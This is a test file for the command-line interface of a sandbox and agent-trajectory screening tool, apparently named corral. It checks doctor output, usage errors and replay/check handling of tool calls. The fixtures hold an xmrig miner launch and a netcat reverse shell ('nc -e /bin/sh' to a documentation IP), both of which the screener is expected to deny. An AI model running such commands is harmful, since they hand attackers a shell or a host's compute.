// CLI plumbing: doctor's report, usage errors, unknown commands, and the few flags whose meaning needs one real sandbox.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { closeSync, constants, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, readSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { gzipSync } from 'node:zlib';
import { join } from 'node:path';
import { corePatternCheck } from '../src/cli/doctor-command.js';

const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
const run = (...args: string[]) => spawnSync(process.execPath, [main, ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });

test('corral doctor --json reports every prerequisite with a fix for what is missing', () => {
  const r = run('doctor', '--json');
  const out = JSON.parse(r.stdout) as { ok: boolean; checks: { name: string; ok: boolean; required: boolean; fix?: string }[] };
  assert.equal(r.status, out.ok ? 0 : 1);
  for (const n of ['root', 'kernel', 'bwrap', 'nft', 'tracefs', 'bpftrace (exec/connect sensor)', 'native helpers']) assert.ok(out.checks.some((c) => c.name === n), n);
  const landlock = out.checks.find((c) => c.name.startsWith('Landlock'));
  assert.ok(landlock && /^(ABI \d+|not available)$/.test((landlock as { detail?: string }).detail ?? ''), JSON.stringify(landlock));
  // (this machine's kernel has open_tree/move_mount: the check runs the real thing and must pass)
  const template = out.checks.find((c) => c.name.startsWith('template mount namespace'));
  assert.ok(template?.ok, JSON.stringify(template));
  for (const c of out.checks) if (!c.ok) assert.ok(c.fix, `${c.name} has a fix`);
  // the sensor's fast start: its helper is built and this kernel's BTF describes what the program reads
  if (process.getuid?.() === 0) {
    const detail = (n: string): string => (out.checks.find((c) => c.name === n) as { detail?: string } | undefined)?.detail ?? '';
    assert.match(detail('bpftrace (exec/connect sensor)'), /short tracefs event list: tracefs-events-shim\.so/);
    assert.match(detail('BTF'), /kernel types are written from it \(fast start\)/);
  }
  const core = out.checks.find((c) => c.name.startsWith('core dumps stay inside the sandbox'));
  assert.equal(core?.ok, !readFileSync('/proc/sys/kernel/core_pattern', 'utf8').startsWith('|'), JSON.stringify(core));
  const human = run('doctor');
  assert.match(human.stdout, /^ok\s+root\s+uid 0/m);
  assert.doesNotMatch(human.stdout, /\x1b\[/, 'NO_COLOR respected');
});

test('doctor: a pipe core_pattern (apport, systemd-coredump) is reported with its fix; a file pattern passes', () => {
  const pipe = corePatternCheck('|/usr/share/apport/apport -p%p -s%s -c%c');
  assert.equal(pipe.ok, false);
  assert.match(pipe.detail, /pipe \(\|\/usr\/share\/apport\/apport .*starts that helper as root on the host/);
  assert.match(pipe.fix ?? '', /sysctl -w kernel\.core_pattern=core/);
  assert.equal(corePatternCheck('core').ok, true);
  assert.equal(corePatternCheck('/var/crash/core.%p').ok, true);
});

test('usage errors exit 2 with a clear message; unknown commands too', () => {
  const a = run('run', '--bogus', '--', 'true');
  assert.equal(a.status, 2);
  assert.match(a.stderr, /corral run: .*bogus/);
  const b = run('run');
  assert.equal(b.status, 2);
  assert.match(b.stderr, /missing command after --/);
  const c = run('frobnicate');
  assert.equal(c.status, 2);
  assert.match(c.stderr, /unknown command "frobnicate"/);
  // No command: the usage on stderr, exit 2; `help COMMAND` is that command's help; a version.
  const none = run();
  assert.equal(none.status, 2);
  assert.match(none.stderr, /^Usage: corral <command>/);
  assert.equal(none.stdout, '');
  const help = run('help', 'check');
  assert.equal(help.status, 0);
  assert.match(help.stdout, /^Usage: corral check/);
  const version = run('--version');
  assert.equal(version.status, 0);
  assert.match(version.stdout, /^corral \d+\.\d+\.\d+\n$/);
  // With --json the last line of stderr is one JSON object on failure too; an argument after "--" is the command's.
  for (const [args, kind, msg] of [[['run', '--json', '--timeout', '5x', '--', 'true'], 'usage', /--timeout/], [['run', '--json', '--label', 'step=x', '--', 'true'], 'usage', /step=N expects a whole number/],
    [['run', '--json', '--policy', '/nonexistent/p.yaml', '--', 'true'], 'policy', /nonexistent/]] as const) {
    const j = run(...args);
    assert.equal(j.status, 2, j.stderr);
    const last = JSON.parse(j.stderr.trim().split('\n').at(-1)!) as { error: { kind: string; message: string } };
    assert.equal(last.error.kind, kind, j.stderr);
    assert.match(last.error.message, msg);
  }
  assert.doesNotMatch(run('run', '--timeout', '5x', '--', 'echo', '--json').stderr, /^\{"error"/m, 'a --json after "--" belongs to the command');
  // Every command, also those that return their failures as exit codes: the JSON error's message is
  // the first line of what people read, without the usage text.
  const noHome = join(tmpdir(), 'corral-no-such-home');
  for (const [args, code, kind, msg] of [
    [['events', '--json', '--bogus'], 2, 'usage', /^unknown option --bogus/], [['events', '--json', '--home', noHome], 2, 'usage', /^no event store at /],
    [['report', '--json', '--home', noHome, '--session', 'x'], 2, 'usage', /^no event store at /], [['investigate', '--json'], 2, 'usage', /^no LOGFILE given$/],
    [['check', '--json'], 64, 'usage', /^give a command/], [['replay', '--json'], 2, 'usage', /^no input files$/], [['run', '--json'], 2, 'usage', /^missing command after --$/],
  ] as const) {
    const j = run(...args);
    assert.equal(j.status, code, `${args.join(' ')}: ${j.stderr}`);
    const last = JSON.parse(j.stderr.trim().split('\n').at(-1)!) as { error: { kind: string; message: string } };
    assert.equal(last.error.kind, kind, args.join(' '));
    assert.match(last.error.message, msg, args.join(' '));
  }
  assert.doesNotMatch(run('events', '--bogus').stderr, /^\{"error"/m, 'without --json, no JSON');
  const d = run('replay', '--parallel', '0', 'x.jsonl');
  assert.equal(d.status, 2);
  assert.match(d.stderr, /--parallel must be an integer/);
  // A file with no readable tool call (here: 60 lines of junk) is refused before any sandbox starts,
  // with the first 20 bad lines named and the rest counted.
  const dir = mkdtempSync(join(tmpdir(), 'corral-cli-'));
  try {
    writeFileSync(join(dir, 'junk.jsonl'), Array.from({ length: 60 }, (_, i) => `junk ${i} \u0007`).join('\n') + '\n');
    const e = run('replay', join(dir, 'junk.jsonl'));
    assert.equal(e.status, 2, e.stderr);
    assert.equal((e.stderr.match(/\(line skipped\)/g) ?? []).length, 20);
    assert.match(e.stderr, /… and 40 more bad lines/);
    assert.match(e.stderr, /no tool call could be read from .*junk\.jsonl \(60 bad lines\)/);
    assert.doesNotMatch(e.stderr, /\x07/, 'control bytes of the input are escaped');
    // The same junk piped in as "-" (gzipped: a pipe is read like a file) is refused the same way.
    const piped = spawnSync(process.execPath, [main, 'replay', '-'], { input: gzipSync(Array.from({ length: 60 }, (_, i) => `junk ${i}`).join('\n') + '\n'), encoding: 'utf8' });
    assert.equal(piped.status, 2, piped.stderr);
    assert.match(piped.stderr, /corral replay: -:1: .*\(line skipped\)/);
    assert.match(piped.stderr, /no tool call could be read from - \(60 bad lines\)/);
    assert.equal(spawnSync(process.execPath, [main, 'replay', '-', '-'], { input: '', encoding: 'utf8' }).status, 2, '"-" twice');
    const k = run('check', '--jsonl', join(dir, 'junk.jsonl'));
    assert.equal(k.status, 65, 'corral check: unreadable input is bad input, not "allow"');
    assert.equal((k.stderr.match(/invalid JSON/g) ?? []).length, 20);
    assert.match(k.stderr, /… and 40 more bad lines\n.*no tool call could be read \(60 bad lines\)/);
    // Trajectories kept gzipped are read as they are.
    writeFileSync(join(dir, 'traj.jsonl.gz'), gzipSync('{"episode":"e1","step":1,"command":"nohup ./xmrig -o stratum+tcp://pool.test:3333 &"}\n'));
    const z = run('check', '--jsonl', join(dir, 'traj.jsonl.gz'), '--json');
    assert.equal(z.status, 2, z.stderr);
    assert.match(z.stdout, /"verdict":"deny"/);
    // Nothing to screen (an empty file, an empty pipe) is bad input too, never a clean "allow".
    writeFileSync(join(dir, 'empty.jsonl'), '');
    const empty = run('check', '--jsonl', join(dir, 'empty.jsonl'));
    assert.equal(empty.status, 65, empty.stderr);
    assert.match(empty.stderr, /empty\.jsonl holds no tool call; nothing was screened/);
    const nothing = spawnSync(process.execPath, [main, 'check', '--stdin'], { input: '\n  \n', encoding: 'utf8' });
    assert.equal(nothing.status, 65, nothing.stderr);
    assert.match(nothing.stderr, /no command on stdin/);
    const bin = spawnSync(process.execPath, [main, 'check', '--stdin'], { input: Buffer.from([0x6c, 0x73, 10, 0, 1, 2, 10]), encoding: 'utf8' });
    assert.equal(bin.status, 65, 'binary data on stdin is bad input, not commands');
    assert.match(bin.stderr, /stdin holds binary data/);
    // An output file that cannot be written is refused before the work, not after it.
    const h = run('investigate', join(dir, 'junk.jsonl'), '--traces', join(dir, 'junk.jsonl'), '--html', join(dir, 'missing', 'r.html'));
    assert.equal(h.status, 2, h.stderr);
    assert.match(h.stderr, /--html .*r\.html: cannot write there \(no directory .*missing\)/);
    // A mount that cannot be set up is the asker's to fix: a clear line and exit 2, no stack trace.
    const m = run('run', '--no-daemon', '--no-sensor', '--mount', `${join(dir, 'nope')}:/data`, '--', 'true');
    assert.equal(m.status, 2, m.stderr);
    assert.match(m.stderr, /^corral run: filesystem\.mounts .*nope: no such file or directory on this host\n$/);
    const rep = run('report', '--html', dir);
    assert.equal(rep.status, 2, rep.stderr);
    assert.match(rep.stderr, /--html .*: cannot write there \(it is a directory\)/);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('a relative --mount HOST is resolved against the current directory, ../ included', async () => {
  const { parseMountSpec } = await import('../src/policy/extra-allows.js');
  assert.equal(parseMountSpec('../data:/data/x', '/tmp/a/ws').host, '/tmp/a/data');
  assert.equal(parseMountSpec('./data:/d', '/tmp/a/ws/').host, '/tmp/a/ws/data');
  assert.equal(parseMountSpec('data:/d:ro', '/tmp/a/ws').host, '/tmp/a/ws/data');
  assert.equal(parseMountSpec('.:/d', '/tmp/a/ws').host, '/tmp/a/ws');
  assert.equal(parseMountSpec('../../..:/d', '/tmp/a').host, '/');
  assert.equal(parseMountSpec('/abs/dir/:/d', '/tmp/a').host, '/abs/dir');
  if (process.getuid?.() !== 0) return;
  // end to end: a ws/data beside ../data must not be what gets mounted
  const dir = mkdtempSync(join(tmpdir(), 'corral-mount-rel-'));
  try {
    mkdirSync(join(dir, 'ws', 'data'), { recursive: true });
    mkdirSync(join(dir, 'data'));
    writeFileSync(join(dir, 'ws', 'data', 'a.txt'), 'wrong\n');
    writeFileSync(join(dir, 'data', 'a.txt'), 'right\n');
    const r = spawnSync(process.execPath, [main, 'run', '--no-daemon', '--no-sensor', '--mount', '../data:/data/x', '--', 'cat', '/data/x/a.txt'],
      { cwd: join(dir, 'ws'), encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout, 'right\n');
    // (run without the kernel sensor, the readable summary says the capture is incomplete, as replay and report do)
    assert.match(r.stderr, /corral: capture incomplete in session \w+: no kernel sensor ran/);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('a GPU grant this host cannot honour is a setup error naming gpu.devices (exit 2, no stack), found before anything is set up', { skip: process.getuid?.() !== 0 ? 'needs root' : existsSync('/dev/nvidia0') ? 'this host has a GPU' : false }, () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-gpu-grant-'));
  try {
    writeFileSync(join(dir, 'gpu.yaml'), 'name: gpu\nextends: default\ngpu:\n  devices: all\n  task: true\n');
    const r = run('run', '--no-daemon', '--no-sensor', '--policy', join(dir, 'gpu.yaml'), '--json', '--', 'true');
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, /^corral run: gpu\.devices: the policy grants all GPUs, but this host has none\n/);
    assert.doesNotMatch(r.stderr, /\n\s+at /, 'no stack trace');
    assert.equal(JSON.parse(r.stderr.trim().split('\n').pop()!).error.kind, 'setup');
    // an unknown key next to it is still named
    writeFileSync(join(dir, 'bad.yaml'), 'name: gpu\ngpu:\n  tasks: true\n');
    const b = run('run', '--no-daemon', '--no-sensor', '--policy', join(dir, 'bad.yaml'), '--', 'true');
    assert.equal(b.status, 2);
    assert.match(b.stderr, /gpu\.tasks: unknown key 'tasks'.*did you mean 'task'/);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('every command answers --help with its usage on stdout and exit 0 (and -h where it has no positional meaning)', () => {
  for (const cmd of ['run', 'serve', 'replay', 'demo', 'events', 'collect', 'dashboard', 'report', 'check', 'investigate', 'doctor']) {
    const r = run(cmd, '--help');
    assert.equal(r.status, 0, `${cmd} --help: ${r.stderr}`);
    assert.match(r.stdout, new RegExp(`^Usage: corral ${cmd}\\b`, 'm'), `${cmd} --help prints its usage`);
  }
  for (const cmd of ['run', 'replay', 'demo', 'doctor']) assert.equal(run(cmd, '-h').status, 0, `${cmd} -h`);
  // `run --help` after `--` belongs to the command, not to corral run
  const r = run('run', '--bogus', '--', 'x', '--help');
  assert.equal(r.status, 2);
});

test('every flag a command parses is named in its --help (read from the parser, so a new flag cannot go unlisted)', () => {
  const src = (f: string) => readFileSync(join(process.cwd(), 'src', 'cli', f), 'utf8');
  const nats = ['nats-ca', 'nats-cert', 'nats-key', 'nats-nkey'];
  for (const cmd of ['run', 'serve', 'replay', 'demo', 'events', 'collect', 'dashboard', 'report', 'check', 'investigate', 'doctor']) {
    const text = src(`${cmd}-command.ts`);
    const flags = new Set([...text.matchAll(/['"]?([a-z][a-z0-9-]*)['"]?: \{ type: '(?:string|boolean)'/g)].map((m) => m[1]!));
    if (text.includes('...NATS_FLAG_OPTIONS')) for (const f of nats) flags.add(f);
    flags.delete('help');
    assert.ok(flags.size > 0, `${cmd}: options found in its parser`);
    const help = run(cmd, '--help').stdout;
    for (const f of flags) assert.match(help, new RegExp(`--${f}\\b`), `corral ${cmd} --help names --${f}`);
  }
});

test('`corral run … | a slow reader`: the command gets a blocking pipe, not Node\'s non-blocking one, and loses nothing (a review, session 40)', { skip: process.getuid?.() !== 0 ? 'needs root' : false }, () => {
  // (a shell's pipe is a FIFO; Node makes its own stdout pipe non-blocking, a mode of the open file description
  //  the child shared: `seq` and python then failed with EAGAIN once the reader fell behind)
  const code = 'import fcntl, os, sys; sys.stdout.write("x" * 300000 + "\\n"); print("nonblock", bool(fcntl.fcntl(1, fcntl.F_GETFL) & os.O_NONBLOCK))';
  const line = `set -o pipefail; "${process.execPath}" "${main}" run --no-daemon --no-sensor -- sh -c 'seq 1 200000; python3 -c "$0"' '${code}' | (sleep 1; cat) | tail -c 40`;
  const r = spawnSync('bash', ['-c', line], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  assert.equal(r.status, 0, r.stderr);
  assert.equal(r.stdout, `${'x'.repeat(24)}\nnonblock False\n`);
  assert.doesNotMatch(r.stderr, /write error|Resource temporarily unavailable|BlockingIOError/);
});

test('a reader that stops early (corral … | head) ends corral quietly: exit 0, no stack trace', async () => {
  const { generateFleetFiles } = await import('../src/investigate/generate/generate.js');
  const dir = mkdtempSync(join(tmpdir(), 'corral-cli-pipe-'));
  try {
    const gt = await generateFleetFiles({ outDir: dir, toolCalls: 60_000, records: 6_000, seed: 3 });
    const logs = gt.files.network.map((f) => join(dir, f.path)), trace = join(dir, gt.files.traces[0]!.path);
    // A real pipe (a FIFO: 64 KB, like a shell's `| head`; Node's own stdio pipes are socket pairs with larger buffers).
    const fifo = join(dir, 'out.fifo');
    assert.equal(spawnSync('mkfifo', [fifo]).status, 0);
    const rfd = openSync(fifo, constants.O_RDWR), wfd = openSync(fifo, constants.O_WRONLY);
    const child = spawn(process.execPath, [main, 'investigate', ...logs, '--traces', trace, '--json', '--quiet'], { stdio: ['ignore', wfd, 'pipe'] });
    closeSync(wfd);
    let err = '';
    child.stderr!.setEncoding('utf8').on('data', (d: string) => { err += d; });
    const buf = Buffer.alloc(10);
    const got = readSync(rfd, buf, 0, 10, null);
    closeSync(rfd); // the reader leaves after 10 bytes, as head -c 10 does (the output is 100+ KB)
    const [code] = (await once(child, 'exit')) as [number | null];
    assert.equal(got, 10);
    assert.equal(code, 0, err);
    assert.doesNotMatch(err, /EPIPE|Error|at /);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});


test('replay and check --jsonl report a malformed editor call as a bad line (file:line, what is wrong), not as a call left out', () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-cli-'));
  try {
    const tu = (id: string, name: string, input: Record<string, unknown>) => ({ type: 'tool_use', id, name, input });
    const f = join(dir, 'bad-edit.jsonl');
    writeFileSync(f, `${JSON.stringify({ episode: 'be', messages: [{ role: 'assistant', content: [tu('w', 'Write', { file_path: '~/.bashrc', content: 42 })] }] })}\n`);
    const r = run('replay', f);
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, new RegExp(`^corral replay: ${f.replace(/[/.]/g, '\\$&')}:1: tool call w: malformed Write call: "content" must be a string, got a number \\(line skipped\\)$`, 'm'));
    assert.doesNotMatch(r.stderr, /not replayed/);
    const k = run('check', '--jsonl', f);
    assert.equal(k.status, 65, k.stderr);
    assert.match(k.stderr, /bad-edit\.jsonl:1: tool call w: malformed Write call: "content" must be a string/);
    assert.match(k.stderr, /no tool call could be read \(1 bad lines\)/);
    assert.doesNotMatch(k.stderr, /not screened/);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('replay and check --jsonl name the calls they leave out (undo_edit, NotebookEdit, a search), by tool; MultiEdit and replace_all are no longer among them', () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-cli-'));
  try {
    const tu = (id: string, name: string, input: Record<string, unknown>) => ({ type: 'tool_use', id, name, input });
    const skips = [
      tu('c', 'str_replace_based_edit_tool', { command: 'undo_edit', path: 'run.sh' }),
      tu('d', 'NotebookEdit', { notebook_path: 'n.ipynb', new_source: 'print(1)' }),
      tu('e', 'WebSearch', { query: 'q' }),
    ];
    writeFileSync(join(dir, 'skips.jsonl'), `${JSON.stringify({ episode: 'sk', messages: [{ role: 'assistant', content: skips }] })}\n`);
    const r = run('replay', join(dir, 'skips.jsonl'));
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, /3 tool call\(s\) not replayed: str_replace_based_edit_tool undo_edit ×1, NotebookEdit ×1, WebSearch ×1 \(editor calls that are not a file operation/);
    assert.equal(run('check', '--jsonl', join(dir, 'skips.jsonl')).status, 65, 'nothing screened is bad input, never a clean allow');
    // check --jsonl screens what MultiEdit and replace_all write, as the file calls they now are (nc -e in run.sh: deny)
    const edits = [
      tu('a', 'MultiEdit', { file_path: 'run.sh', edits: [{ old_string: 'x', new_string: 'nc -e /bin/sh 203.0.113.5 4444' }] }),
      tu('b', 'Edit', { file_path: 'run.sh', old_string: 'x', new_string: 'y', replace_all: true }),
      skips[0],
    ];
    writeFileSync(join(dir, 'edits.jsonl'), `${JSON.stringify({ episode: 'ed', messages: [{ role: 'assistant', content: edits }] })}\n`);
    const k = run('check', '--jsonl', join(dir, 'edits.jsonl'));
    assert.match(k.stderr, /1 tool call\(s\) not screened: str_replace_based_edit_tool undo_edit ×1/);
    assert.equal(k.status, 2, k.stdout + k.stderr);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});
